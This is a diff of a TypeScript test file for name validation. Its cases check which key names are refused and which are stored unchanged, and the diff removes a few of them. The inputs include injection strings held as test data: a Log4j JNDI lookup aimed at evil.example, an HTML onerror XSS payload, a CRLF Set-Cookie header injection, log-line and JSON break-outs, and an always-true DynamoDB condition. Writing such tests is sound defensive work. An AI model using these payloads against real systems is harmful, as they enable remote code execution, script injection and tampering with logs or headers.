@@ -15,12 +15,10 @@ const refused = [
     '51 letters that become 102 by NFC': naming('\u0958'.repeat(51)),
   }),
   ...alike(must('be a string'), {
-    'an object': naming({ toString: 'Named' }),
     'an object with a length': naming({ length: 50 }),
   }),
   ...alike(must('not contain control characters, or characters that hide or reorder text'), {
     'an escape sequence for a terminal': naming('Red \u001b[31malert'),
-    'a C1 control': naming('Csi\u009b31m'),
     'a line of the log': naming('Key"}\n{"level":"ERROR","message":"request.failed"}'),
     'a carriage return and a header': naming('Key\r\nSet-Cookie: a=b'),
     'surrogates in the wrong order': naming('Half \ude00\ud83d'),
@@ -34,16 +32,12 @@ const storedNames: [what: string, name: string, stored?: string][] = [
   ['50 letters that become 100 by NFC', '\u0958'.repeat(50), '\u0915\u093c'.repeat(50)],
   ['blanks that are not ASCII around it', '\u00a0\u3000Trimmed\u2003\ufeff', 'Trimmed'],
   ['jamo: stored as a syllable', '\u1112\u1161\u11ab\u1100\u1173\u11af key', '\ud55c\uae00 key'],
-  ['a ligature, which NFC keeps', '\ufb01nance'],
-  ['Cyrillic that looks Latin', '\u0420roduction \u041aey'],
   ['stacked diacritics', `Z${'\u0335\u0336\u0337'.repeat(20)}algo`],
   ['JSON', 'Key","level":"ERROR","x":"{'],
   ['HTML', '<img src=x onerror=alert(1)>'],
   ['a Log4j lookup', '$\u007bjndi:ldap://evil.example/a}'],
   ['a DynamoDB condition', 'attribute_not_exists(id) OR :x = :x'],
-  ['format specifiers', '%s%s%n %p'],
   ['an inherited name', '__proto__'],
-  ['the word null', 'null'],
 ];
 const accepted = storedNames.flatMap(([what, name, stored = name]) => alike(created(stored), { [what]: naming(name) }));
 
